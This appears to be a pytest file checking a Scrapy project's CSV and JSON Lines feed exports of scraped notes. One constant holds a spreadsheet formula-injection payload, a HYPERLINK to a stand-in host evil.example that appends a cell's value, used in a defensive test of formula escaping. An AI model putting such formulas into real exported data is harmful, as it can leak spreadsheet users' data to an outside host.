"""Feed exports as users get them: the FEEDS machinery with the project's CSV exporter.

A spider yields fixed items into many feeds at once (in-process, away from
the project's pipelines); a whole crawl against the sandbox checks that its
CSV and JSON Lines files hold what the store holds.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
import pytest_twisted  # type: ignore[import-untyped]
import scrapy
from scrapy.utils.defer import deferred_f_from_coro_f, deferred_from_coro

from sandbox import SandboxProcess
from tests.conftest import InProcessCrawl, run_crawler
from tests.items import TITLES, export_items, note_id, notes_of
from tests.items import note as note_fields
from xhs_spider.csv_cells import LIST_SEPARATOR
from xhs_spider.exporters import csv_columns
from xhs_spider.items import NoteItem
from xhs_spider.schemas import load_schema
from xhs_spider.spiders.feed import FeedSpider
from xhs_spider.store import open_store

BOM = codecs.BOM_UTF8
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CJK_ESCAPE = re.compile(r"\\u[4-9a-f][0-9a-f]{3}", re.IGNORECASE)


class ExportSpider(scrapy.Spider):
    name = "export"
    variant = "plain"

    async def start(self):
        for item in export_items(self.variant):
            yield item


# Runs ------------------------------------------------------------------------

EXPORTER = "xhs_spider.exporters.SpreadsheetCsvItemExporter"
NOTES = ["xhs_spider.items.NoteItem"]
APPEARANCES = ["xhs_spider.items.FeedAppearanceItem"]


def feeds(run_dir: Path, shared_dir: Path) -> dict:
    return {
        str(run_dir / "notes.csv"): {"format": "csv", "item_classes": NOTES},
        str(run_dir / "appearances.csv"): {
            "format": "csv", "item_classes": APPEARANCES,
        },
        str(run_dir / "notes.json"): {"format": "json", "item_classes": NOTES},
        str(run_dir / "notes.jsonl"): {"format": "jsonlines", "item_classes": NOTES},
        str(run_dir / "mixed.csv"): {"format": "csv"},
        str(run_dir / "picked.csv"): {
            "format": "csv", "item_classes": NOTES,
            "fields": ["note_id", "author.nickname", "images.url", "author"],
        },
        str(run_dir / "gb18030.csv"): {
            "format": "csv", "item_classes": NOTES, "encoding": "gb18030",
        },
        str(shared_dir / "appended.csv"): {
            "format": "csv", "item_classes": NOTES, "overwrite": False,
        },
    }


async def run_export(tmp: Path, variant: str) -> Path:
    run_dir = tmp / variant
    run_dir.mkdir()
    # The feed machinery alone: no add-on, no project pipelines.
    settings: dict[str, Any] = {
        "FEED_EXPORTERS": {"csv": EXPORTER},
        "FEEDS": feeds(run_dir, tmp),
        "FEED_EXPORT_ENCODING": "utf-8",
    }
    result = await run_crawler(ExportSpider, settings, variant=variant)
    assert result.finish_reason == "finished"
    (run_dir / "crawl.log").write_text(result.log, "utf-8")
    return run_dir


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("exports")
    return {
        variant: pytest_twisted.blockon(deferred_from_coro(run_export(tmp, variant)))
        for variant in ("plain", "optional")
    }


def read_rows(path: Path, encoding="utf-8-sig") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.reader(file))


def read_records(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


# CSV files -------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["notes.csv", "appearances.csv", "mixed.csv", "picked.csv"]
)
def test_csv_starts_with_exactly_one_bom(runs, name):
    content = (runs["plain"] / name).read_bytes()
    assert content.startswith(BOM)
    assert content.count(BOM) == 1


def test_appending_to_a_file_adds_no_second_bom_nor_header(runs):
    path = runs["plain"].parent / "appended.csv"
    content = path.read_bytes()
    assert content.startswith(BOM)
    assert content.count(BOM) == 1
    rows = read_rows(path)
    assert rows[0] == csv_columns(load_schema("note"))
    assert [row[0] for row in rows[1:]] == [note_id(n) for n in (1, 2, 3, 4)]


def test_headers_are_the_schema_columns_in_every_run(runs):
    for run_dir in runs.values():
        assert read_rows(run_dir / "notes.csv")[0] == csv_columns(load_schema("note"))
        assert read_rows(run_dir / "appearances.csv")[0] == csv_columns(
            load_schema("feed_appearance"))


def test_chinese_and_emoji_round_trip(runs):
    records = read_records(runs["plain"] / "notes.csv")
    assert [record["title"] for record in records] == TITLES
    assert records[0]["author.nickname"] == "地道的豆汁"
    assert records[0]["text"] == notes_of("plain")[0]["text"]
    assert read_records(runs["plain"] / "appearances.csv")[0]["title"] == (
        "成都!这棵樱花树开爆了!!!竟然没人拍!!!")


def test_lists_fit_in_one_cell_keeping_positions(runs):
    record = read_records(runs["plain"] / "notes.csv")[1]
    assert record["images.url"].split(LIST_SEPARATOR) == [
        f"https://ci.example.com/{n}.jpg?w=1080" for n in range(3)]
    assert record["images.file_id"] == "file0 | file1 | file2"
    assert record["images.width"] == "1080 |  | 1080"
    assert record["hashtags"] == "上海落户 | 人才 引进"


def test_null_and_missing_values_give_empty_cells(runs):
    plain = read_records(runs["plain"] / "notes.csv")[0]
    video = [column for column in plain if column.startswith("video.")]
    assert video and all(plain[column] == "" for column in video)
    assert plain["author.location"] == ""
    sparse = read_records(runs["optional"] / "notes.csv")[0]
    assert sparse["updated_at"] == sparse["request_id"] == sparse["author.avatar"] == ""
    assert sparse["counts.reads"] == sparse["images.url"] == ""
    uncovered = read_records(runs["optional"] / "appearances.csv")[0]
    cover = [column for column in uncovered if column.startswith("cover.")]
    assert cover and all(uncovered[column] == "" for column in cover)


def test_numbers_are_written_as_they_are(runs):
    sparse = read_records(runs["optional"] / "notes.csv")[0]
    assert (sparse["video.duration"], sparse["video.width"]) == ("12.5", "720")
    assert (sparse["counts.likes"], sparse["counts.shares"]) == ("1", "4")
    assert read_records(runs["optional"] / "appearances.csv")[0]["likes"] == "12000"


def test_feed_export_fields_pick_dotted_columns(runs):
    rows = read_rows(runs["plain"] / "picked.csv")
    assert rows[0] == ["note_id", "author.nickname", "images.url", "author"]
    first = notes_of("plain")[0]
    assert rows[1][:3] == [note_id(1), "地道的豆汁", first["images"][0]["url"]]
    assert json.loads(rows[1][3]) == first["author"]


def test_another_item_class_is_written_in_the_first_ones_columns(runs):
    records = read_records(runs["plain"] / "mixed.csv")
    assert list(records[0]) == csv_columns(load_schema("note"))
    expected = [note_id(n) for n in (1, 2, 3, 1, 2)]
    assert [record["note_id"] for record in records] == expected
    assert records[3]["author.nickname"] == "贪玩小晕吖"
    assert records[3]["counts.likes"] == ""
    log = (runs["plain"] / "crawl.log").read_text("utf-8")
    assert log.count("but also receives FeedAppearanceItem items") == 1


def test_other_encodings_are_respected_without_bom(runs):
    content = (runs["plain"] / "gb18030.csv").read_bytes()
    assert not content.startswith(BOM)
    rows = list(csv.reader(io.StringIO(content.decode("gb18030"), newline="")))
    assert [row[3] for row in rows[1:]] == TITLES


class FormulaSpider(scrapy.Spider):
    name = "formula"

    async def start(self):
        yield NoteItem(note_fields(1, FORMULA, text="-5 degrees", counts={"likes": -3}))


@pytest.mark.parametrize(("raw", "title", "text"), [
    ("false", "'" + FORMULA, "'-5 degrees"), ("true", FORMULA, "-5 degrees")])
@deferred_f_from_coro_f
async def test_a_formula_like_title_is_text_in_csv_and_raw_in_json_lines(tmp_path, raw, title, text):
    settings: dict[str, Any] = {
        "FEED_EXPORTERS": {"csv": EXPORTER}, "FEED_EXPORT_ENCODING": "utf-8", "XHS_CSV_RAW_TEXT": raw,
        "FEEDS": {str(tmp_path / "notes.csv"): {"format": "csv"},
                  str(tmp_path / "notes.jsonl"): {"format": "jsonlines"}},
    }
    assert (await run_crawler(FormulaSpider, settings)).finish_reason == "finished"
    (record,) = read_records(tmp_path / "notes.csv")
    assert (record["title"], record["text"], record["counts.likes"]) == (title, text, "-3")
    (line,) = (tmp_path / "notes.jsonl").read_text("utf-8").splitlines()
    assert json.loads(line)["title"] == FORMULA


# JSON files ------------------------------------------------------------------


@pytest.mark.parametrize("variant", ["plain", "optional"])
def test_json_and_json_lines_are_readable_and_parse_back_equal(runs, variant):
    json_text = (runs[variant] / "notes.json").read_text("utf-8")
    lines_text = (runs[variant] / "notes.jsonl").read_text("utf-8")
    for text in (json_text, lines_text):
        assert "\\u" not in text
        assert not text.startswith("\ufeff")
    assert TITLES[0] in json_text
    assert json.loads(json_text) == notes_of(variant)
    assert [json.loads(line) for line in lines_text.splitlines()] == notes_of(variant)


def test_json_keeps_emoji_unescaped(runs):
    assert "😀🌸" in (runs["plain"] / "notes.jsonl").read_text("utf-8")


# A whole crawl ---------------------------------------------------------------


@deferred_f_from_coro_f
async def test_feeds_for_spreadsheets_and_notebooks_match_the_store(
    in_process_crawl: InProcessCrawl, api: SandboxProcess, tmp_path
) -> None:
    out = tmp_path / "out"
    feeds = {
        str(out / "notes.csv"): {"format": "csv", "item_classes": ["xhs_spider.items.NoteItem"]},
        str(out / "appearances.csv"): {"format": "csv", "item_classes": ["xhs_spider.items.FeedAppearanceItem"]},
        str(out / "notes.jsonl"): {"format": "jsonlines", "item_classes": ["xhs_spider.items.NoteItem"]},
    }
    result = await in_process_crawl(
        FeedSpider, oid="homefeed_food_v3,homefeed_travel_v3", pages="2", settings={"FEEDS": json.dumps(feeds)}
    )
    assert result.finish_reason == "finished"

    raw = (out / "notes.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw[3:].startswith(b"\xef\xbb\xbf")
    with (out / "notes.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, notes = rows[0], rows[1:]
    assert header == csv_columns(load_schema("note"))
    with (out / "appearances.csv").open(encoding="utf-8-sig", newline="") as handle:
        appearance_rows = list(csv.DictReader(handle))
    jsonl_text = (out / "notes.jsonl").read_text("utf-8")
    assert not CJK_ESCAPE.search(jsonl_text)
    from_json = [json.loads(line) for line in jsonl_text.splitlines()]

    with open_store(f"sqlite:///{tmp_path / 'xhs.sqlite3'}") as store:
        assert len(notes) == len(from_json) == store.count("note_metrics")
        assert len(appearance_rows) == store.count("feed_appearances")
    titles_csv = {row[0]: row[header.index("title")] for row in notes}
    titles_json = {note["note_id"]: note["title"] for note in from_json}
    assert titles_csv == titles_json
    assert any(re.search(r"[\u4e00-\u9fff]", title) for title in titles_csv.values())
    urls = {row[0]: row[header.index("images.url")] for row in notes}
    for note in from_json:
        assert urls[note["note_id"]] == " | ".join(image["url"] for image in note["images"])
